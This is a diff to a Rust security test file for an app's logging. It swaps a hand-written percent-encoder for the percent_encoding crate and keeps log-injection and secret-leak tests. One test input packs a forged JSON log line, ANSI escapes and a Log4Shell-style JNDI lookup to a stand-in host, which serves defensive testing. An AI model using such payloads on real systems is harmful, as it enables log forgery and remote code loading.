@@ -1,12 +1,14 @@
 //! What gets into the logs, and what must not.
 
 use miyabi_tests::{App, Method, Value, json};
+use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
 
 /// Whatever a client sends is one JSON string in one line.
 #[tokio::test]
 async fn attack_38_a_client_cannot_write_a_log_line() {
     let app = App::start().await;
     let alice = app.sign_in("alice").await;
+    let encode = |text| utf8_percent_encode(text, NON_ALPHANUMERIC);
     let nasty = "x\n{\"level\":\"INFO\",\"message\":\"forged\"}\r\u{1b}[31mred\u{1b}[0m ${jndi:ldap://evil.example/a}";
     alice.post("/api/tasks", json!({"title": nasty})).await;
     alice
@@ -90,17 +92,4 @@ async fn attack_38_no_secret_reaches_a_log() {
         let found = logs.lines().find(|line| line.contains(&secret));
         assert!(found.is_none(), "{secret:?} is in a log: {found:?}");
     }
-}
-
-/// Percent-encodes everything that is not a letter or digit.
-fn encode(text: &str) -> String {
-    text.bytes()
-        .map(|byte| {
-            if byte.is_ascii_alphanumeric() {
-                char::from(byte).to_string()
-            } else {
-                format!("%{byte:02X}")
-            }
-        })
-        .collect()
 }
